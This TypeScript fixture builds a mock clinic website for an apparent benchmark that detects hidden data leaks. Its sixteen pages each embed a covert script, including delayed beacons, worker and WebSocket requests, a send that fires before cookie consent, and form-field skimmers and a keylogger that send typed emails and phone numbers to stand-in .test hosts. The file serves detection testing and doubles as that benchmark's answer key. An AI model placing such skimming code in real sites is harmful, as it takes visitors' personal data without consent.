import { type Page, startPracticeSite } from './practice.ts'
import type { StandIn } from './stand-in.ts'

/** One way to send that a look at a loaded page does not see; `typed` names the field whose value leaves. */
type Way = { path: string; title: string; name: string; host: string; body: string; typed?: string }

const send = (host: string, body = "''") =>
  `fetch('https://${host}/c', { method: 'POST', mode: 'no-cors', keepalive: true, body: ${body} }).catch(function () {})`
const inline = (code: string) => `<script>${code}</script>`
const form = (field: string, type: string) =>
  `<form action="#" method="post"><p><label>${field} <input name="${field}" type="${type}"></label></p><button>Continue</button></form>`
const onChange = (code: string) =>
  inline(
    `document.querySelector('main input').addEventListener('change', function (event) { var v = event.target.value; ${code} })`,
  )

/** Sixteen pages, a way each; the answer key of `npm run bench:site` beside that of the small practice. */
export const hiddenWays: ReadonlyArray<Way> = [
  {
    path: '/physical-therapy',
    title: 'Physical therapy',
    name: 'beacon 8 seconds after load',
    host: 'late.beacon-lab.test',
    body: inline(`setTimeout(function () { ${send('late.beacon-lab.test')} }, 8000)`),
  },
  {
    path: '/pediatrics',
    title: 'Pediatrics',
    name: 'beacon on scroll',
    host: 'scroll.beacon-lab.test',
    body: `<p style="height:3000px">Well-child visits.</p>${inline(`addEventListener('scroll', function () { ${send('scroll.beacon-lab.test')} }, { once: true })`)}`,
  },
  {
    path: '/womens-health',
    title: 'Women’s health',
    name: 'beacon on a click that opens more text',
    host: 'click.beacon-lab.test',
    body: `<details id="more"><summary>Read more</summary>Annual examinations.</details>${inline(`document.getElementById('more').addEventListener('click', function () { ${send('click.beacon-lab.test')} })`)}`,
  },
  {
    path: '/locations',
    title: 'Our locations',
    name: 'beacon at page hide',
    host: 'hide.beacon-lab.test',
    body: inline(
      `addEventListener('pagehide', function () { navigator.sendBeacon('https://hide.beacon-lab.test/c', 'bye') })`,
    ),
  },
  {
    path: '/careers',
    title: 'Careers',
    name: 'beacon when the page turns invisible',
    host: 'visibility.beacon-lab.test',
    body: inline(
      `document.addEventListener('visibilitychange', function () { ${send('visibility.beacon-lab.test')} })`,
    ),
  },
  {
    path: '/telehealth',
    title: 'Telehealth',
    name: 'request of a worker',
    host: 'worker.beacon-lab.test',
    body: inline(`new Worker('/scripts/worker.js')`),
  },
  {
    path: '/patient-library',
    title: 'Patient library',
    name: 'request of a service worker',
    host: 'service.beacon-lab.test',
    body: inline(`navigator.serviceWorker.register('/scripts/service.js')`),
  },
  {
    path: '/insurance-plans',
    title: 'Insurance plans',
    name: 'request of a shared worker',
    host: 'shared.beacon-lab.test',
    body: inline(`new SharedWorker('/scripts/shared.js')`),
  },
  {
    path: '/wellness-classes',
    title: 'Wellness classes',
    name: 'message over a socket',
    host: 'socket.beacon-lab.test',
    body: inline(`var s = new WebSocket('wss://socket.beacon-lab.test/s'); s.onopen = function () { s.send('hello') }`),
  },
  {
    path: '/office-news',
    title: 'Office news',
    name: 'request before any choice on the cookie banner',
    host: 'unasked.beacon-lab.test',
    body: `<div class="cookie-bar" style="position:fixed;bottom:0"><p>We use cookies to improve your visit.</p><button type="button">Accept all</button><button type="button">Reject all</button></div>${inline(send('unasked.beacon-lab.test'))}`,
  },
  {
    path: '/symptom-checker',
    title: 'Symptom checker',
    name: 'typed text, compressed',
    host: 'gzip.beacon-lab.test',
    typed: 'search',
    body: `${form('search', 'search')}${onChange(`new Response(new Blob([v]).stream().pipeThrough(new CompressionStream('gzip'))).blob().then(function (b) { ${send('gzip.beacon-lab.test', 'b')} })`)}`,
  },
  {
    path: '/refill-request',
    title: 'Refill a prescription',
    name: 'typed e-mail, hashed',
    host: 'hash.beacon-lab.test',
    typed: 'email',
    body: `${form('email', 'email')}${onChange(`crypto.subtle.digest('SHA-256', new TextEncoder().encode(v.toLowerCase())).then(function (h) { new Image().src = 'https://hash.beacon-lab.test/i?em=' + Array.from(new Uint8Array(h)).map(function (b) { return ('0' + b.toString(16)).slice(-2) }).join('') })`)}`,
  },
  {
    path: '/records-request',
    title: 'Request your records',
    name: 'typed e-mail, by a worker',
    host: 'typed-worker.beacon-lab.test',
    typed: 'email',
    body: `${form('email', 'email')}${inline(`var w = new Worker('/scripts/typed.js')`)}${onChange('w.postMessage(v)')}`,
  },
  {
    path: '/referrals',
    title: 'Referrals',
    name: 'typed phone number, 8 seconds later',
    host: 'typed-late.beacon-lab.test',
    typed: 'phone',
    body: `${form('phone', 'tel')}${onChange(`setTimeout(function () { ${send('typed-late.beacon-lab.test', 'v')} }, 8000)`)}`,
  },
  {
    path: '/waitlist',
    title: 'Join the waitlist',
    name: 'typed e-mail, at page hide',
    host: 'typed-hide.beacon-lab.test',
    typed: 'email',
    body: `${form('email', 'email')}${inline(`var kept = ''; addEventListener('pagehide', function () { if (kept) navigator.sendBeacon('https://typed-hide.beacon-lab.test/c', kept) })`)}${onChange('kept = v')}`,
  },
  {
    path: '/travel-clinic',
    title: 'Travel clinic',
    name: 'typed e-mail, key by key over a socket',
    host: 'typed-socket.beacon-lab.test',
    typed: 'email',
    body: `${form('email', 'email')}${inline(`var s = new WebSocket('wss://typed-socket.beacon-lab.test/s'); document.addEventListener('keyup', function (event) { if (s.readyState === 1) s.send(JSON.stringify({ k: event.key, f: event.target.name })) }, true)`)}`,
  },
]

const fetchTo = (host: string) => `fetch('https://${host}/c', { mode: 'no-cors' }).catch(() => {})`
const scripts: Record<string, string> = {
  '/scripts/worker.js': fetchTo('worker.beacon-lab.test'),
  '/scripts/service.js': fetchTo('service.beacon-lab.test'),
  '/scripts/shared.js': fetchTo('shared.beacon-lab.test'),
  '/scripts/typed.js': `onmessage = (e) => fetch('https://typed-worker.beacon-lab.test/c', { method: 'POST', mode: 'no-cors', body: e.data }).catch(() => {})`,
}

const pages = Object.fromEntries(
  hiddenWays.map(({ path, title, body }): [string, Page] => [
    path,
    { title, tags: [], body: `<p>At Northfield.</p>${body}` },
  ]),
)

/** The practice with 27 pages: the eleven of the small one, and one for each hidden way to send. */
export function startLargePracticeSite(): Promise<StandIn> {
  return startPracticeSite({ pages, scripts, collectors: hiddenWays.map(({ host }) => host) })
}
